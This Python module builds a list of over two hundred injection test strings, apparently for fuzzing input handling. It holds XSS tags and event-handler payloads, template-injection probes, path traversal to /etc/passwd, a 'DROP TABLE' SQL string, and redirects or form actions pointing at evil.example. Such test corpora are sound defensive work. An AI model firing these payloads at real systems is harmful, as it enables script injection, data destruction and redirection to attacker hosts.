"""Two hundred strings and more that try to become something else than text, put together from their parts."""

from __future__ import annotations

from itertools import product

CALL = "alert(1)"
_BREAKS = ("", "'", '"', "`", "'>", '">', "-->", "</title>", "</script>", "</style>", "</textarea>", "]]>")
_TAGS = (
    f"<script>{CALL}</script>",
    f"<img src=x onerror={CALL}>",
    f"<svg onload={CALL}>",
    f"<svg><script>{CALL}</script></svg>",
    f"<details open ontoggle={CALL}>",
    f"<body onload={CALL}>",
    f"<iframe srcdoc='<script>{CALL}</script>'>",
    f"<a href=javascript:{CALL} autofocus onfocus={CALL}>x</a>",
    f"<input autofocus onfocus={CALL}>",
    f"<video src=x onerror={CALL}>",
    f"<style>@import 'javascript:{CALL}'</style>",
    "<base href=//evil.example/>",
    f"<math><mtext><img src=x onerror={CALL}></mtext></math>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<form action=//evil.example><button>x</button></form>",
)
_ATTRIBUTES = tuple(
    f"{quote} {name}={CALL} x={quote}"
    for quote, name in product(("'", '"', "`"), ("onload", "onmouseover", "autofocus onfocus"))
)
_OTHERS = (
    f"javascript:{CALL}",
    f"{{{{ {CALL} }}}}",
    "{{ 7 * 7 }}",
    "{% raw %}",
    "{{ config }}",
    "{{ ''.__class__.__mro__ }}",
    "${7*7}",
    "<%= 7 * 7 %>",
    f"\\u003cscript\\u003e{CALL}\\u003c/script\\u003e",
    f"&lt;script&gt;{CALL}&lt;/script&gt;",
    f"%3Cscript%3E{CALL}%3C/script%3E",
    f"<scr<script>ipt>{CALL}</scr</script>ipt>",
    f"\u202e<script>{CALL}</script>",
    f"\uff1cscript\uff1e{CALL}\uff1c/script\uff1e",
    "=1+1",
    "../../../etc/passwd",
    "data:text/html,<script>1</script>",
    "a" * 400,
    "שלום <b>עולם</b>",
    "نص <i>مائل</i>",
    "\U0001f4a5" * 20,
    "'; DROP TABLE tickets; --",
)
STRINGS: tuple[str, ...] = tuple(
    dict.fromkeys([*(before + tag for before, tag in product(_BREAKS, _TAGS)), *_ATTRIBUTES, *_OTHERS])
)
